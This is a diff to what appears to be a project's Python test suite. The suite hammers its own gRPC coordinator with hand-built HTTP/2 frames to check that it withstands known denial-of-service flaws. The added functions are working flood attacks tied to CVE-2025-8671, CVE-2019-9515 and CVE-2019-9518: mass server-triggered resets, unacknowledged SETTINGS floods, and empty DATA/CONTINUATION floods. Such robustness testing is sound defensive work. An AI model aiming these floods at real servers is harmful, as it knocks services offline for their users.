@@ -2,8 +2,8 @@
 """Strangers at the gRPC port speak HTTP/2 that no library would write: the known weaknesses of gRPC 1.51 and of HTTP/2.
 
 While a probe lasts, and after it, the coordinator lives and has not grown beyond a bound, and another client's tokens and calls come
-within a bound. Frames are written by hand (RFC 9113, RFC 7541). With --full each probe lasts 20 s; with --falls the ones run that gRPC
-1.51 is known to fall to (docs/security.md), which fail.
+within a bound. Frames are written by hand (RFC 9113, RFC 7541). With --full each probe lasts 20 s. Half of them fell gRPC 1.51 where
+nothing stands before it (coordinator/http2_guard).
 """
 import contextlib
 import os
@@ -294,6 +294,23 @@ def rapid_reset(address, seconds, clients=4):
         thread.join()
 
 
+def resets_by_the_server(address, seconds):
+    """CVE-2025-8671: frames that must not be make the server reset streams, whose calls go on."""
+    for _ in until(seconds):
+        client = Client(address)
+        stream = 1
+        for _ in until(seconds):
+            burst = b""
+            for _ in range(100):
+                burst += (frame(HEADERS, END_HEADERS, stream, request(GENERATE))
+                          + frame(DATA, END_STREAM, stream, message(b"\x12\x06ROMEO:"))
+                          + frame(WINDOW_UPDATE, 0, stream, b"\0\0\0\0"))
+                stream += 2
+            if stream > 1 << 30 or not client.send(burst):
+                break
+        client.close()
+
+
 def streams_that_stay(address, seconds):
     """As many calls at once as the port takes, of which none ends its request."""
     clients = [Client(address) for _ in range(4)]
@@ -329,6 +346,37 @@ def pings_and_settings(address, seconds):
         client.close()
 
 
+def streams_on_many_connections(address, seconds):
+    """No connection has more of them than it may."""
+    clients = [Client(address) for _ in range(20)]
+    for client in clients:
+        client.send(b"".join(frame(HEADERS, END_HEADERS, 1 + 2 * i, request(GENERATE)) for i in range(1000)))
+    time.sleep(seconds)
+    for client in clients:
+        client.close()
+
+
+def settings_alone(address, seconds):
+    """CVE-2019-9515: each must be acknowledged, and the client reads no acknowledgement."""
+    for _ in until(seconds):
+        client = Client(address)
+        while client.send(frame(SETTINGS, 0, 0) * 1000):
+            pass
+        client.close()
+
+
+def frames_that_say_nothing(address, seconds):
+    """CVE-2019-9518: DATA and CONTINUATION without content, on and on."""
+    for of in (lambda c: c.send(frame(HEADERS, END_HEADERS, 1, request(GENERATE)) + frame(DATA, 0, 1) * 5000)
+               and all(c.send(frame(DATA, 0, 1) * 5000) for _ in range(500)),
+               lambda c: c.send(frame(HEADERS, 0, 1, request(GENERATE)))
+               and all(c.send(frame(CONTINUATION, 0, 1) * 5000) for _ in range(500))):
+        for _ in until(seconds / 2):
+            client = Client(address)
+            of(client)
+            client.close()
+
+
 def connections_that_say_nothing(address, seconds):
     """CVE-2023-4785: as many connections as there are descriptors here, and half a preface."""
     host, port = address.rsplit(":", 1)
@@ -343,9 +391,9 @@ def connections_that_say_nothing(address, seconds):
         one.close()
 
 
-PROBES = (headers_that_are_counted_wrongly, many_references, wrong_base64, pings_and_settings,
-          connections_that_say_nothing)
-FALLS = (streams_that_stay, rapid_reset, headers_without_end, a_number_without_end, a_header_of_gigabytes)
+PROBES = (headers_that_are_counted_wrongly, many_references, wrong_base64, pings_and_settings, settings_alone,
+          frames_that_say_nothing, connections_that_say_nothing, streams_that_stay, streams_on_many_connections,
+          rapid_reset, resets_by_the_server, headers_without_end, a_number_without_end, a_header_of_gigabytes)
 
 
 def main(probes, seconds):
@@ -390,4 +438,4 @@ def main(probes, seconds):
 
 
 if __name__ == "__main__":
-    sys.exit(main(FALLS if "--falls" in sys.argv else PROBES, 20 if "--full" in sys.argv else 1))
+    sys.exit(main(PROBES, 20 if "--full" in sys.argv else 1))
